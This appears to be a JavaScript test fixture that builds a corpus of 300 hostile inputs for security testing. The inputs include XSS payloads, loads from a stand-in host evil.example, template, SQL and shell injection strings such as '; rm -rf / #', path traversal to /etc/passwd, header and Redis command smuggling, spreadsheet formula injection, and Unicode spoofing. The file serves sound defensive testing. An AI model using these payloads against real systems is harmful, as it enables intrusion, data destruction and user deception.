// Hostile texts with fixed contents: what a task or a host may say. `corpus` has 300 of them, as bytes.

const code = (...points) => String.fromCodePoint(...points);
const range = (from, to) => Array.from({ length: to - from + 1 }, (_, at) => from + at);

const BREAKS = ['', '">', "'>", '</script>', '</textarea>', '</title>', '</style>', '-->', ']]>', '</bdi>', '</option></select>', '</code></pre>', '\\"', '&quot;>', '<!--', '"\n'];

const PAYLOADS = [
  '<script>pwned()</script>', '<img src=x onerror=pwned()>', '<svg onload=pwned()>', '<details open ontoggle=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>">', '<a href="javascript:pwned()" autofocus onfocus=pwned()>a</a>',
  '<link rel=stylesheet href=//evil.example/a.css>', '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>', '<object data=//evil.example/>', '" autofocus onfocus=pwned() x="', '<video src=//evil.example/ onerror=pwned()>',
];

const MARKUP = [
  '<ScRiPt>pwned()</sCrIpT>', '<script src=//evil.example/a.js></script>', '<svg><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>', '<body onload=pwned()>', '<input autofocus onfocus=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<form><button formaction=javascript:pwned()>x', '<template><script>pwned()</script></template>',
  '<style>*{background:url(//evil.example/x)}</style>', '<img src="//evil.example/pixel.gif">', '<x style="animation-name:a" onanimationstart=pwned()>',
  '&lt;script&gt;pwned()&lt;/script&gt;', '&#60;script&#62;pwned()&#60;/script&#62;', '<<script>pwned()//<</script>', '<img src=x onerror\u000c=pwned()>',
  '<img/src=x/onerror=pwned()>', '<a id=banner name=banner>clobbered</a>', '<form id=keys><input name=showModal>', '<div hidden class=sheet data-live=//evil.example/>',
];

const TEMPLATES = ['{{7*7}}', '{{constructor.constructor("pwned()")()}}', '${pwned()}', '`${pwned()}`', '<%= 7*7 %>', '#{7*7}', '%s%n%x', '{0}{name}', '$(touch /tmp/pwned)', '`id`', '; rm -rf / #', "'; DROP TABLE tasks; --"];
const ADDRESSES = ['javascript:pwned()', ' javascript:pwned()', 'java\tscript:pwned()', 'JaVaScRiPt:pwned()', 'data:text/html,<script>pwned()</script>', 'vbscript:pwned()', '//evil.example/', 'https://evil.example/%0d%0aSet-Cookie:x=1', 'http://user:secret@evil.example/', 'file:///etc/passwd'];
const PATHS = ['../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/etc/passwd\0.png', 'C:\\Windows\\win.ini', '%00%0a%0d%3cscript%3e', 'CON', '.', '..', '?q=state:failed&after=0', '#main'];
const PROTOCOLS = ['\r\nSet-Cookie: blueque_flash=good%20pwned', '\n\nevent: frame\ndata: {"parts":[{"id":"main","html":"<script>pwned()</script>"}]}\n\n', '\r\n*1\r\n$8\r\nFLUSHALL\r\n', 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>', '\u2028event: lines\u2029data: x'];
const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example","x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '"=1+1"', '=IMPORTXML("http://evil.example","//a")'];
const ANSI = ['\x1b[31mred\x1b[0m', '\x1b[2J\x1b[H', '\x1b]0;title\x07', '\x1b]8;;javascript:pwned()\x07link\x1b]8;;\x07', '\x1b[38;2;1;2;3mx', '\x1b[999999999999m', '\x1b[', '\x1b]', '\x1bP<script>pwned()</script>\x1b\\', '\x9b31mred', '\x1b[31m<img src=x onerror=pwned()>', '\x1b[8mhidden\x1b[0m', '\x1b[1;31;4;3;2;7;9m"><b>', '\x1b(0lqk\x1b(B'];
const SCRIPTS = [
  'مرحبا بالعالم', 'שלום עולם', 'аpple.com', 'ｆｕｌｌｗｉｄｔｈ', '👩‍👩‍👧‍👦'.repeat(20), `z${code(0x300, 0x301, 0x302, 0x303, 0x316, 0x317).repeat(30)}algo`,
  '﷽'.repeat(50), 'ก้้้้้้้้้้้้้้้้้้้้', 'İıſK', '𝕬𝖉𝖒𝖎𝖓', `${code(0x202e)}gnp.exe`, `${code(0x2066)}admin${code(0x2069)} ${code(0x2067)}resu`, code(0xe0001, 0xe0061, 0xe007f), code(0xfdd0, 0x10ffff), '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
];
const JSONS = [
  '['.repeat(20_000), `${'['.repeat(5_000)}${']'.repeat(5_000)}`, `{${range(0, 4_000).map((n) => `"k${n}":${n}`).join()}}`,
  '{"n":123456789012345678901234567890.10,"e":1e999,"m":-0}', '{"a":1,"a":"<script>pwned()</script>"}', '{"__proto__":{"pwned":1},"constructor":{"prototype":{}}}',
  '"\\ud800"', '"\\u003cscript\\u003epwned()\\u003c/script\\u003e"', '{"</script><script>pwned()</script>":"</textarea><img src=x onerror=pwned()>"}', 'NaN', '{"a":', '[1,2,]', '\ufeff[]', 'null',
];
const BYTES = [[0xff], [0xc0, 0xbc], [0xe0, 0x80, 0xbc], [0xf0, 0x80, 0x80, 0xbc], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc3], [0xe2, 0x82], [0x3c, 0xff, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e], range(0x80, 0xff), [0xfe, 0xff, 0x00, 0x3c], [0x2b, 0x41, 0x44, 0x77, 0x2d]].map((bytes) => Buffer.from(bytes));
const LARGE = ['x'.repeat(1_000_000), '<'.repeat(200_000), '"><img src=x onerror=pwned()>'.repeat(2_000), ' '.repeat(50_000), '\n'.repeat(20_000), code(0x202e).repeat(5_000)];

const single = [...range(0x00, 0x1f), 0x7f, ...range(0x80, 0x9f).filter((n) => n % 4 === 1), 0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202d, 0x202e, 0x2060, 0x2066, 0x3164, 0xfeff, 0xfff9]
  .map((point) => `a${code(point)}b`);

const chosen = [MARKUP, TEMPLATES, ADDRESSES, PATHS, PROTOCOLS, FORMULAS, ANSI, SCRIPTS, JSONS, BYTES, LARGE, single].flat();
// Each way out of a context with each payload in turn, until there are 300.
const pairs = range(0, BREAKS.length * PAYLOADS.length - 1).map((at) => BREAKS[at % BREAKS.length] + PAYLOADS[(at + Math.floor(at / BREAKS.length)) % PAYLOADS.length]);

export const corpus = [...chosen, ...pairs].slice(0, 300).map((text) => (Buffer.isBuffer(text) ? text : Buffer.from(text)));
